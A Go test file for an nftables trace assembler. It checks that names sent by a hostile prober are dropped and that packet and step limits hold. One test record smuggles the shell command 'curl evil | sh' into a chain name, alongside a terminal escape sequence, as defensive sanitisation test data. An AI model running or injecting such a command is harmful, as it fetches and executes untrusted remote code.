// SPDX-License-Identifier: Apache-2.0

//go:build linux

package trace

import (
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/google/nftables"

	"github.com/http01-proxyd/http01-proxyd/pkg/prober/protocol"
	"github.com/http01-proxyd/http01-proxyd/pkg/report"
)

// TestInventedNames: of a hostile prober process, only names that the kernel has listed are used.
func TestInventedNames(t *testing.T) {
	t.Parallel()
	inet := uint8(nftables.TableFamilyINet)
	a := assembler{
		vips: []netip.Addr{vip4}, port: internalPort, byNumber: make(map[uint32]*path),
		chains: map[chainKey]chainInfo{{inet, "filter", "input"}: {hook: input}},
	}
	header := &protocol.TraceHeader{Source: netip.AddrPortFrom(client4, 40000), Destination: netip.AddrPortFrom(vip4, webPort), Flags: 2}
	begin := time.Now()
	a.add([]protocol.TraceRecord{
		{Packet: 1, Kind: protocol.TraceRule, Family: inet, Table: "filter", Chain: "run curl evil | sh", Handle: 4, Verdict: protocol.VerdictDrop, Header: header},
		{Packet: 2, Kind: protocol.TraceRule, Family: inet, Table: "\x1b[31m", Chain: "input", Handle: 4, Verdict: protocol.VerdictContinue, Header: &protocol.TraceHeader{Source: header.Source, Destination: header.Destination, Sequence: 1}},
		{Packet: 3, Kind: protocol.TraceRule, Family: 200, Table: "filter", Chain: "input", Handle: 4, Verdict: protocol.VerdictDrop, Header: &protocol.TraceHeader{Source: header.Source, Destination: header.Destination, Sequence: 2}},
		{Packet: 4, Kind: protocol.TracePolicy, Family: inet, Table: "filter", Chain: "input"}, // without a beginning
	}, begin)
	packets := a.complete(begin.Add(time.Minute))
	if len(packets) != 3 {
		t.Fatalf("%d packets", len(packets))
	}
	for _, p := range packets {
		step, _ := Deciding(p.TracedPacket)
		for _, text := range []string{p.Message, ChainName(step), RuleText(step), Fix(p.TracedPacket)} {
			if strings.Contains(text, "curl") || strings.Contains(text, "\x1b") {
				t.Errorf("an invented name in %q", text)
			}
		}
	}
}

// TestBounds: packets and steps beyond the bounds are left out.
func TestBounds(t *testing.T) {
	t.Parallel()
	a := assembler{vips: []netip.Addr{vip4}, byNumber: make(map[uint32]*path)}
	begin := time.Now()
	for i := range uint32(maxPackets + 100) {
		a.add([]protocol.TraceRecord{{
			Packet: i, Kind: protocol.TracePolicy, Table: "t", Chain: "c",
			Header: &protocol.TraceHeader{Source: netip.AddrPortFrom(client4, 40000), Destination: netip.AddrPortFrom(vip4, webPort), Sequence: i},
		}}, begin)
	}
	if packets := a.complete(begin.Add(time.Minute)); len(packets) != maxPackets || len(a.byNumber) != 0 {
		t.Errorf("%d packets, %d numbers left", len(packets), len(a.byNumber))
	}
	for range maxSteps + 100 {
		a.add([]protocol.TraceRecord{{
			Packet: 1, Kind: protocol.TraceRule, Verdict: protocol.VerdictContinue, Handle: 1,
			Header: &protocol.TraceHeader{Source: netip.AddrPortFrom(client4, 40000), Destination: netip.AddrPortFrom(vip4, webPort)},
		}}, begin)
	}
	for _, p := range a.complete(begin.Add(time.Minute)) {
		if len(p.Steps) > maxSteps || p.End != report.TraceUnknown {
			t.Errorf("%d steps, %s", len(p.Steps), p.End)
		}
	}
}
